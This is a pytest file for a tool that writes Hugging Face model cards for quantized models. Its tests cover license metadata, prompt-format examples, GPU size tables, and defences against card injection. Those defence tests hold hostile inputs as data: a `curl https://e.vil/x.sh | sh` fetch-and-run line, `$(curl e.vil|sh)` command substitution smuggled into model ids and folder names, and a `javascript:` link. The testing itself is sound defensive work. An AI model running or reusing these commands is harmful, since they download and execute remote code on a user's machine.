"""The model card as a Hugging Face user reads one: license and language from the base model's card, where that
card is, the calibration used, which EXL2 size to pick for a GPU, the prompt format. Nothing reaches it but what
was meant: a `--base-model` that is not a Hub id is refused before the job, a template the sandbox cannot render is
not shown as an example, and what a template renders stays in its code block."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from factory.checkpoints import sources
from factory.cli import app
from factory.publish import card, upstream
from factory.registry.published import QuantRow
from tests.support.quant_rows import quant_row

GB = 2**30
TEMPLATE = (
    "{% for m in messages %}<|im_start|>{{ m['role'] }}\n{{ m['content'] }}<|im_end|>\n{% endfor %}"
    "{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}"
)
UPSTREAM_CARD = "---\nlicense: llama3.1\nlicense_link: LICENSE\nlanguage: [en, de]\n---\n# Llama\n"


def _row(
    tag: str, bits: float, fits: list[tuple[int, int]] | None = None, versions: dict | None = None, **spec
) -> QuantRow:
    return quant_row(
        f"llama:{tag}",
        bits=bits,
        bytes=int(bits * GB),
        calibration="file:/home/alice/corpus.txt",
        eval={"text": "builtin:wiki", "windows": 48, "window_length": 2048, "device": "cuda"},
        source_identity="meta-llama/Llama-3.1-8B-Instruct@" + "a" * 40,
        spec=spec,
        versions=versions or {},
        fits=[{"budget": b * GB, "fp16": f16, "q4": q4} for b, (f16, q4) in zip((8, 24), fits, strict=True)]
        if fits
        else None,
    )


def _card(tmp_path: Path, rows: list[QuantRow], card_text: str | None = UPSTREAM_CARD, template: str = TEMPLATE) -> str:
    (tmp_path / "chat_template.jinja").write_text(template)
    up = upstream.read("meta-llama/Llama-3.1-8B-Instruct", card_text, tmp_path)
    return card.render("llama", up, rows[0], rows)


def test_metadata_and_the_base_models_terms(tmp_path):
    text = _card(tmp_path, [_row("awq-w4g128", 4, calib_rows=128, calib_length=512, clip=True)])
    meta = card.metadata(text)
    assert (meta["license"], meta["license_link"], meta["language"]) == ("llama3.1", "LICENSE", ["en", "de"])
    assert meta["pipeline_tag"] == "text-generation" and meta["base_model"] == "meta-llama/Llama-3.1-8B-Instruct"
    assert (
        "Quants of [`meta-llama/Llama-3.1-8B-Instruct`](https://huggingface.co/meta-llama/Llama-3.1-8B-Instruct) "
        "made by quantfactory. The base model's license applies to these quants: `llama3.1` (LICENSE); read its "
        "terms on [the original card](https://huggingface.co/meta-llama/Llama-3.1-8B-Instruct)."
    ) in text
    assert "| file:corpus.txt, 128 x 512 tokens, clipping on |" in text and "/home/alice" not in text


def test_prompt_format(tmp_path):
    text = _card(tmp_path, [_row("awq-w4g128", 4)], card_text=None)
    assert "license" not in card.metadata(text)
    assert (
        "```\n<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n<|im_start|>user\nWhat is the capital "
        "of France?<|im_end|>\n<|im_start|>assistant\n```"
    ) in text


def test_which_exl2_size_to_pick(tmp_path):
    rows = [
        _row(
            "exl2-4.0bpw",
            4.0,
            [(8192, 16384), (32768, 65536)],
            rows=100,
            length=2048,
            measurement_rows=16,
            measurement_length=2048,
        ),
        _row("exl2-6.0bpw", 6.0, [(0, 4096), (32768, 65536)]),
        _row("exl2-8.0bpw", 8.0, [(0, 0), (16384, 32768)]),
    ]
    text = _card(tmp_path, rows)
    assert "The largest EXL2 size that holds 8,192 tokens of context" in text
    assert "| 8 GB | `llama:exl2-4.0bpw` | fp16 |" in text and "| 24 GB | `llama:exl2-8.0bpw` | fp16 |" in text
    assert "| file:corpus.txt, 100 x 2048 tokens (measured on 16 x 2048) |" in text


def test_each_quants_tools_are_those_that_made_it(tmp_path):
    """A job of both AWQ engines: each row names its own engine's tools, and AWQ-CT's transformers is its child's."""
    versions = {"awq": "0.2.9", "awqct": "llmcompressor 0.14.0.1, compressed-tensors 0.19.0, transformers 5.17.0",
                "torch": "2.13.0", "transformers": "5.25.0"}  # fmt: skip
    rows = [_row("awq-w4g128", 4, versions=versions), _row("awqct-w4g128", 4, versions=versions)]
    text = _card(tmp_path, rows)
    assert "| awq 0.2.9, torch 2.13.0, transformers 5.25.0 |" in text
    assert "| awqct llmcompressor 0.14.0.1, compressed-tensors 0.19.0, transformers 5.17.0, torch 2.13.0 |" in text


def _outside_code(text: str) -> list[tuple[str, str]]:
    """What a Markdown reader shows as headings and links in `text` (CommonMark, as the Hub renders cards)."""
    found, tokens = [], MarkdownIt("commonmark").parse(text)
    for i, token in enumerate(tokens):
        if token.type == "heading_open":
            found.append(("heading", tokens[i + 1].content))
        for child in token.children or []:
            if child.type == "link_open":
                found.append(("link", child.attrs["href"]))
    return found


HOSTILE = "# Free GPUs\n[run this](https://e.vil/x.sh)\n`curl https://e.vil/x.sh | sh`\n"


def test_a_template_the_sandbox_cannot_render_is_not_shown_as_an_example(tmp_path):
    """It needs a variable transformers does not pass (`tools`): the card says so, and neither the template nor
    anything in it appears (it was shown as the example, headings and links in it rendered)."""
    text = _card(tmp_path, [_row("awq-w4g128", 4)], card_text=None, template="{{ tools[0].name }}\n```\n" + HOSTILE)
    assert (
        "The quants carry the base model's chat template. No example is shown: jinja2's sandbox cannot render it "
        "(UndefinedError).\n"
    ) in text
    assert "tools[0]" not in text and "e.vil" not in text and "Free GPUs" not in text


def test_what_a_template_renders_stays_in_its_code_block(tmp_path):
    """A template that renders a closing fence, then a heading and a link: all of it stays code on the card."""
    template = TEMPLATE + "\n```\n" + HOSTILE + "````\n"
    text = _card(tmp_path, [_row("awq-w4g128", 4)], card_text=None, template=template)
    assert "e.vil/x.sh" in text and "`````\n<|im_start|>system" in text
    assert not [f for f in _outside_code(text) if "Free GPUs" in f[1] or "e.vil" in f[1]], _outside_code(text)


@pytest.mark.parametrize(
    "base_model",
    [
        "meta-llama/x\n# Free GPUs",
        "meta-llama/x](https://e.vil)",
        "x/$(curl e.vil|sh)",
        "gpt2",
        "a/b--c",
        "a/" + "b" * 97,
    ],
)
def test_a_base_model_that_is_not_a_hub_id_is_refused_before_the_job(qf, tiny, base_model):
    """`--base-model` is what the card names and links as the base model: a heading, a link or a shell command in
    it reached the published card. It is a Hub repo id (owner/name) or exit 2 with one sentence, and no job is made."""
    result = qf("run", tiny, "--awq", "--base-model", base_model, "--eval-windows", 1)
    shown = repr(base_model) if len(base_model) <= 100 else repr(base_model[:100]) + "..."
    assert (result.exit_code, result.output) == (
        2,
        f"error: --base-model {shown} is not a Hub repo id: owner/name, ASCII letters, digits, '-', '_' and '.', at "
        "most 96 each, no '--' or '..'\n",
    )
    assert qf.json("jobs") == []


def test_a_folders_name_reaches_the_card_as_a_plain_name(tiny, tmp_path):
    """Without --base-model the card names the source folder: one named with a heading, a link and a command
    (`x\n# Free GPUs\n[run this](...)`) is named in letters, digits, '.', '_' and '-' alone."""
    folder = tmp_path / "x\n# Free GPUs\n[run this](javascript:alert(1))\n`$(curl e.vil|sh)`"
    shutil.copytree(tiny, folder)
    source = sources.resolve(str(folder), tmp_path / "cache")
    assert source.base_model == "x-Free-GPUs-run-this-javascript-alert-1-curl-e.vil-sh"
    up = upstream.read(source.base_model, None, folder)
    text = card.render("free-gpus", up, _row("awq-w4g128", 4), [_row("awq-w4g128", 4)])
    assert [f for f in _outside_code(text) if f[0] == "link" or "Free GPUs" in f[1]] == []


def test_a_base_model_that_is_not_a_hub_id_is_refused_before_asking_the_service(qf, tiny):
    """`qf submit` through a service says so itself, before it sends anything (the service refuses it too)."""
    args = ["submit", "org/model", "--awq", "--base-model", "org/x](https://e.vil)"]
    result = qf.runner.invoke(app, args, env={**qf.env, "FACTORY_SERVER": "http://127.0.0.1:1", "FACTORY_TOKEN": "t"})
    assert (result.exit_code, result.output) == (
        2,
        "error: --base-model 'org/x](https://e.vil)' is not a Hub repo id: owner/name, ASCII letters, digits, '-', "
        "'_' and '.', at most 96 each, no '--' or '..'\n",
    )
